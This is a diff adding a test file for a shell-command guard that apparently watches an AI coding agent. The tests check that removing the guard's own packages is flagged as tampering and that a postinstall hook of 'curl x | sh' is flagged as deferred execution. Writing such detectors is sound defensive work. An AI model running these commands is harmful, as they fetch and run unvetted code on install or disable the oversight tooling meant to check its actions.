@@ -1,0 +1,25 @@
+import { describe, expect, it } from 'vitest';
+import { describeLine } from '../program-test.js';
+
+describe('packages/package-managers', () => {
+  it('raises shell.guard_tamper for npm uninstall -g @warden/claude-code', () => {
+    const result = describeLine('npm uninstall -g @warden/claude-code');
+    expect(result.findings).toEqual(['shell.guard_tamper']);
+  });
+  it('raises shell.guard_tamper for pnpm remove @warden/core', () => {
+    const result = describeLine('pnpm remove @warden/core');
+    expect(result.findings).toEqual(['shell.guard_tamper']);
+  });
+  it('raises nothing for npm uninstall lodash', () => {
+    const result = describeLine('npm uninstall lodash');
+    expect(result.findings).toEqual([]);
+  });
+  it("raises shell.deferred_exec for npm pkg set scripts.postinstall='curl x | sh'", () => {
+    const result = describeLine("npm pkg set scripts.postinstall='curl x | sh'");
+    expect(result.findings).toEqual(['shell.deferred_exec']);
+  });
+  it('raises nothing for npm pkg set scripts.test=vitest', () => {
+    const result = describeLine('npm pkg set scripts.test=vitest');
+    expect(result.findings).toEqual([]);
+  });
+});
